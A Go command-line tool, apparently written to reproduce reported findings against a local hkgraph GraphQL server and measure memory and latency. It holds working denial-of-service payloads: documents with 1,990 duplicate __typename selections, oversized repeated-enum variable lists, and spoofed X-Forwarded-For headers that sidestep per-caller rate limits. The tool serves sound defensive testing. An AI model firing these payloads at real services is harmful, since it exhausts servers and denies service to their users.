// Command attackrun replays the reproductions of issue 14 (findings 1 and 2) against a running
// hkgraph and prints what they cost the server: its RSS (read from /proc/PID/status), the
// latency of each attack request, and a normal query's p50 idle and while four attackers run.
// It measures; it asserts nothing (the tests assert behaviour). Run the server with
// HKGRAPH_TRUSTED_PROXIES=127.0.0.1 so each simulated caller (X-Forwarded-For) has its own
// rate-limit budget, as distinct attackers and analysts would.
//
//	go run ./internal/tools/attackrun -url http://127.0.0.1:18080/graphql -pid $(pgrep -n hkgraph)
package main

import (
	"bytes"
	"encoding/json"
	"flag"
	"fmt"
	"math/rand/v2"
	"net/http"
	"os"
	"slices"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"
)

var (
	url    = flag.String("url", "http://127.0.0.1:18080/graphql", "GraphQL endpoint")
	pid    = flag.Int("pid", 0, "server process id (for RSS)")
	full   = flag.Bool("thousand", true, "also send 850 more documents (1,000 in all) and report RSS")
	client = &http.Client{Timeout: 60 * time.Second}
	seq    atomic.Int64
)

func main() {
	flag.Parse()
	fmt.Printf("RSS at start: %.1f MB\n", rss())
	normal := `{ entity(id: "cyberport") { name relationships(first: 10) { totalCount edges { node { type to { name } } } } } }`
	idle := timeMany(normal, nil, "10.9.9.9", 60)
	fmt.Printf("normal query idle: p50 %.1f ms\n", p50(idle))

	before := rss()
	lat := make([]time.Duration, 0, 150)
	codes := map[string]int{}
	for i := 0; i < 150; i++ {
		d, code := send(duplicateDoc(), nil, "10.1.0."+strconv.Itoa(i%200))
		lat = append(lat, d)
		codes[code]++
	}
	fmt.Printf("150 unique __typename×1990 documents: RSS %+.1f MB (%.1f → %.1f), median %.1f ms, answers %v\n",
		rss()-before, before, rss(), p50(lat), codes)

	if *full {
		codes = map[string]int{}
		for i := 0; i < 850; i++ {
			_, code := send(duplicateDoc(), nil, "10.2."+strconv.Itoa(i/200)+"."+strconv.Itoa(i%200))
			codes[code]++
		}
		fmt.Printf("after 1,000 such documents: RSS %.1f MB, answers to the last 850 %v\n", rss(), codes)
	}

	stop := make(chan struct{})
	var wg sync.WaitGroup
	for a := 0; a < 4; a++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for {
				select {
				case <-stop:
					return
				default:
				}
				// Four clients, one address each, as the issue describes the attack.
				send(duplicateDoc(), nil, fmt.Sprintf("10.3.%d.1", a))
			}
		}()
	}
	busy := timeMany(normal, nil, "10.9.9.9", 60)
	close(stop)
	wg.Wait()
	fmt.Printf("normal query with 4 attackers: p50 %.1f ms (%.2f× idle); RSS %.1f MB\n", p50(busy), p50(busy)/p50(idle), rss())

	rels := `query($t: [RelationshipType!]) { entity(id: "cyberport") { relationships(types: $t) { totalCount edges { node { type } } } } }`
	t61 := make([]string, 61)
	for i := range t61 {
		t61[i] = "PARTNERED_WITH"
	}
	for i := 0; i < 3; i++ {
		d, code := send(rels, map[string]any{"t": t61}, "10.4.0.1")
		fmt.Printf("relationships(types: 61×PARTNERED_WITH): %.0f ms %s\n", ms(d), code)
	}
	all := []string{"INVESTED_IN", "PARTNERED_WITH", "PARTICIPATED_IN", "OPERATES", "FUNDS", "MANAGES", "MERGED_WITH",
		"LISTED_ON", "LOCATED_IN", "LEADS", "MEMBER_OF", "WORKED_AT", "EDUCATED_AT", "RECOGNIZED_BY", "SELECTED_FOR",
		"ATTENDED", "SUBSIDIARY_OF", "ANNOUNCED", "TARGETS_MARKET", "ORGANIZED", "ESTABLISHED"}
	var shuffled []time.Duration
	for i := 0; i < 10; i++ {
		rand.Shuffle(len(all), func(a, b int) { all[a], all[b] = all[b], all[a] })
		d, _ := send(rels, map[string]any{"t": all}, "10.4.0.2")
		shuffled = append(shuffled, d)
	}
	fmt.Printf("relationships(types: the 21 types shuffled), 10 orders: p50 %.0f ms, max %.0f ms\n", p50(shuffled), ms(slices.Max(shuffled)))
	k := make([]string, 3000)
	for i := range k {
		k[i] = "PLACE"
	}
	search := `query($k: [EntityKind!]) { search(query: "hong kong", kinds: $k) { entity { id } } }`
	for i := 0; i < 2; i++ {
		d, code := send(search, map[string]any{"k": k}, "10.4.0.3")
		fmt.Printf("search(kinds: 3000×PLACE): %.0f ms %s\n", ms(d), code)
	}
	fmt.Printf("RSS at end: %.1f MB\n", rss())
}

// duplicateDoc is a unique document of 1,990 __typename selections (a comment makes it unique).
func duplicateDoc() string {
	return "# " + strconv.FormatInt(seq.Add(1), 10) + "-" + strconv.FormatInt(time.Now().UnixNano(), 36) +
		"\n{ " + strings.Repeat("__typename ", 1990) + "}"
}

// send posts one operation as the caller at address from and returns its latency and the
// first error code ("ok" when none, or the HTTP status when the body is not GraphQL).
func send(query string, vars map[string]any, from string) (time.Duration, string) {
	body, _ := json.Marshal(map[string]any{"query": query, "variables": vars})
	req, _ := http.NewRequest(http.MethodPost, *url, bytes.NewReader(body))
	req.Header.Set("Content-Type", "application/json")
	req.Header.Set("X-Forwarded-For", from)
	start := time.Now()
	resp, err := client.Do(req)
	if err != nil {
		return time.Since(start), "transport error"
	}
	defer resp.Body.Close()
	var r struct {
		Errors []struct {
			Extensions map[string]any `json:"extensions"`
		} `json:"errors"`
	}
	err = json.NewDecoder(resp.Body).Decode(&r)
	d := time.Since(start)
	switch {
	case err != nil:
		return d, "HTTP " + strconv.Itoa(resp.StatusCode)
	case len(r.Errors) > 0:
		c, _ := r.Errors[0].Extensions["code"].(string)
		return d, c
	}
	return d, "ok"
}

func timeMany(query string, vars map[string]any, from string, n int) []time.Duration {
	out := make([]time.Duration, n)
	for i := range out {
		out[i], _ = send(query, vars, from)
	}
	return out
}

func p50(ds []time.Duration) float64 {
	s := slices.Clone(ds)
	slices.Sort(s)
	return ms(s[len(s)/2])
}

func ms(d time.Duration) float64 { return float64(d.Microseconds()) / 1000 }

// rss is the server's resident set in MB, from /proc.
func rss() float64 {
	if *pid == 0 {
		return 0
	}
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", *pid))
	if err != nil {
		return 0
	}
	for _, line := range strings.Split(string(b), "\n") {
		if f := strings.Fields(line); len(f) >= 2 && f[0] == "VmRSS:" {
			kb, _ := strconv.ParseFloat(f[1], 64)
			return kb / 1024
		}
	}
	return 0
}
